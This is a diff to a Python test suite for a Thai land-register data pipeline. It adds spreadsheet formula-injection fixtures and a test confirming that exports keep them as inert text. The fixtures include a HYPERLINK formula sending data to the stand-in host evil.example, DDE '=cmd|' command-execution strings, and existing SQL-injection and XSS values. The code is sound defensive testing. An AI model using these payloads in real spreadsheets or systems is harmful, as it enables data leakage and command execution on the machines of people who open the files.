@@ -15,6 +15,7 @@ from __future__ import annotations
 
 import contextlib
 import csv
+import html
 import html.parser
 import io
 import json
@@ -63,6 +64,9 @@ HOSTILE_LGU = "x'); DROP TABLE load_runs;--"
 ZONE_NAME = "โซน " + XSS[0]
 ACCOUNT = XSS[1]
 NOTES = "หมายเหตุ " + XSS[2]
+# Spreadsheet formula injection: text a spreadsheet would run if written as a formula.
+FORMULAS = ('=HYPERLINK("http://evil.example/?leak","คลิก")', "=cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0")
 YEAR_BE = 2566
 
 
@@ -120,15 +124,18 @@ def build_hostile_town(town: Path, out: Path) -> dict[str, str]:
     for row in range(2, ws.max_row + 1):
         code = ws.cell(row, code_col).value
         ws.cell(row, len(header) + 1, XSS[0])
+        if row % 7 == 0:  # text that looks like a formula, stored as text (as exports do)
+            ws.cell(row, owner_col, FORMULAS[row % len(FORMULAS)]).data_type = "s"
         if normalise_parcel_code(str(code)) in renamed:
             ws.cell(row, code_col, rename(code))
-            ws.cell(row, owner_col, "นาย " + XSS[row % len(XSS)])
+            owner = FORMULAS[0] if rename(code) == SQLI[2] else "นาย " + XSS[row % len(XSS)]
+            ws.cell(row, owner_col, owner).data_type = "s"
             ws.cell(row, account_col, ACCOUNT)
     wb.save(out / "register_2566.xlsx")
 
     survey = pd.read_csv(town / "survey_2566.csv", dtype=str, keep_default_na=False)
     survey["parcel_code"] = survey["parcel_code"].map(rename)
-    survey["notes"] = NOTES
+    survey["notes"] = [FORMULAS[i % 3] if i % 4 == 0 else NOTES for i in range(len(survey))]
     survey.to_csv(out / "survey_2566.csv", index=False, encoding="utf-8")
 
     mapping = (town / "mapping.toml").read_text(encoding="utf-8")
@@ -229,7 +236,7 @@ def test_injection_through_codes_layer_and_column_names_round_trips_as_data(host
     assert set(HOSTILE_CODES) <= parcels and set(HOSTILE_CODES) <= register
     assert set(HOSTILE_CODES) <= findings  # every hostile parcel was flagged and matched
     assert layer == LAYER and extra == [XSS[3]] and reg_extra == [XSS[0]]
-    assert {f"นาย {x}" for x in XSS} >= owners and len(owners) >= 2
+    assert {f"นาย {x}" for x in XSS} | {FORMULAS[0]} >= owners and len(owners) >= 2
     assert n_parcels == 200 and n_rejects == 0
     with (hostile.out / "findings.csv").open(encoding="utf-8-sig", newline="") as fh:
         exported = {row["parcel_code"] for row in csv.DictReader(fh)}
@@ -355,6 +362,34 @@ def test_hostile_codes_and_owner_names_show_verbatim_in_map_popups(hostile: Run,
     assert shown >= len(HOSTILE_CODES) - 1
     assert view.page.locator('img[src="x"]').count() == 0
     assert view.dialogs == [] and view.errors() == []
+
+
+def test_spreadsheet_text_is_never_written_as_a_formula(hostile: Run) -> None:
+    books = sorted(hostile.out.rglob("*.xlsx"))
+    assert len(books) >= 4
+    shown = 0
+    for book in books:
+        with zipfile.ZipFile(book) as zf:
+            for name in zf.namelist():
+                if not name.startswith("xl/"):
+                    continue
+                xml = zf.read(name).decode("utf-8")
+                formulas = re.findall(r"<f[ >][^<]*</f>", xml)
+                assert not [f for f in formulas if "HYPERLINK" in f or "cmd|" in f], (book, name)
+                shown += sum(html.unescape(xml).count(f) for f in FORMULAS)
+    assert shown >= 1  # the text is there, as text
+    in_csv = 0
+    for table in sorted(hostile.out.rglob("*.csv")):
+        with table.open(encoding="utf-8-sig", newline="") as fh:
+            for cell in (c for row in csv.reader(fh) for c in row):
+                assert not re.match(r"[=@]|[+-][^\d.]", cell), (table, cell)  # never a formula
+                in_csv += any(f in cell for f in FORMULAS)
+    assert in_csv >= 1  # kept as text behind an apostrophe
+    with hostile.engine.connect() as conn:
+        stored = conn.execute(sa.text(
+            "SELECT count(*) FROM register WHERE owner_name = ANY(:f)"),
+            {"f": list(FORMULAS)}).scalar_one()
+    assert stored >= 3  # loaded verbatim, as text
 
 
 # ------------------------------------------------------------ owner ID numbers
